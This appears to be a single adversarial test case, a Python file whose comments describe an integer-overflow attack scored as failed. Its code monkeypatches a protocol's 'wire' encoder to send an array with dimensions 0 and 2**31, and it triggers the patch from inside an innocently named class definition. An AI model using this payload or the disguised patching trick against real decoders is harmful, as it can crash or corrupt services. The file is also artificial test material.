# attack: >-
#   Answers with an empty array whose other sizes overflow when they are multiplied.
# mark: 0
# reason: "cannot be used"
# seconds: 20
# naive: none

import sys


def globals_with(name):
    frame = sys._getframe()
    while name not in frame.f_globals or frame.f_globals is globals():
        frame = frame.f_back
    return frame.f_globals


def patch():
    import json
    wire = globals_with("wire")["wire"]
    def encode(m):
        t = json.dumps({"id": m["id"], "value": {"__array__": ["float32", [0, 2**31, 2**31, 2**31]]}}).encode()
        return wire.HEADER.pack(wire.MAGIC, len(t), 0) + t
    wire.encode = encode

class InceptionBlock:
    patch()
